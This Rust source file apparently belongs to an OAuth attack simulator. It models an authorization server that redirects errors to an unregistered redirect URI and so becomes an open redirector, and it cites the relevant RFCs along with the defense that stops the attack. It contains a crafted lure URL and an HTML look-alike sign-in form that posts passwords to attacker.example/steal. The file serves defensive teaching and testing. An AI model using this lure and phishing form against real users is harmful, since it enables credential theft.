//! `open-redirect-on-error`: an authorization request with a redirect URI the AS does
//! not accept; an AS that still redirects the error there becomes an open redirector
//! that sends Alice, from a URL on as.example, to the attacker's phishing page
//! (RFC 6749 §4.1.2.1, RFC 9700 §4.11.2).

use crate::actors::Defenses;
use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::attacks::attacker::{Attacker, Passive};
use crate::attacks::setup::*;
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::requests::{AuthorizationRequest, ResponseType};
use crate::sim::Simulation;
use crate::sim::world::WorldBuilder;

pub struct OpenRedirectOnError;

static INFO: AttackInfo = AttackInfo {
    id: "open-redirect-on-error",
    title: "The AS as an open redirector on error",
    story: "Mallory sends Alice a link to as.example/authorize for Photo Printer, with redirect_uri pointing at her \
            own phishing page. The redirect URI is not registered, so the request is invalid — but an AS that \
            redirects errors anyway sends Alice from a trusted as.example URL straight to a page that looks like \
            the AS's sign-in form. Alice types her password into it.",
    capabilities: &[Capability::WebAttacker],
    setup: "The attacker's site with a copy of the AS's sign-in page.",
    steps: &[
        "Link Alice to as.example/authorize?client_id=photo-printer&redirect_uri=https://attacker.example/signin",
        "Serve a look-alike sign-in form at /signin that posts to the attacker",
    ],
    goal: "the attacker's server receives Alice's password",
    stoppers: &[Stopper {
        defense: DefenseId::NoRedirectOnInvalidUri,
        why: "an invalid redirect URI gets an error page at the AS, never a redirect (RFC 6749 §4.1.2.1)",
        needs: &[],
        with_rest_of_bcp: false,
        fails_the_flow: false,
    }],
    references: "RFC 6749 §4.1.2.1; RFC 9700 §4.11.2",
};

fn lure() -> String {
    AuthorizationRequest::new(
        ResponseType::Code,
        wk::CLIENT_ID,
        "https://attacker.example/signin",
    )
    .scope("openid photos.read")
    .url(&format!("{}/authorize", wk::AS_ISSUER))
}

impl Attack for OpenRedirectOnError {
    fn info(&self) -> &'static AttackInfo {
        &INFO
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut sim = WorldBuilder::standard(seed, defenses).build();
        let site = Attacker::new(ATTACKER, "Attacker (attacker.example)", &[ATTACKER_ORIGIN], Passive)
            .with_redirect("/", &lure())
            .with_page(
                "/signin",
                "Sign in",
                r#"<h1>as.example</h1><p>Your session expired. Sign in again to continue.</p>
<form id="login" method="post" action="https://attacker.example/steal">
<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>"#,
            );
        sim.add_actor(Box::new(site));
        sim.push_script(navigate(
            wk::BROWSER,
            &format!("{ATTACKER_ORIGIN}/"),
            "Alice opens a link from an email; it points at as.example.",
        ));
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        let loot = sim.actor::<Attacker>(ATTACKER)?.loot();
        loot.passwords
            .iter()
            .any(|(u, _)| u == wk::ALICE)
            .then(|| "the AS redirected Alice to the attacker's look-alike page, which received her password".to_string())
    }
}

pub static ATTACK: OpenRedirectOnError = OpenRedirectOnError;
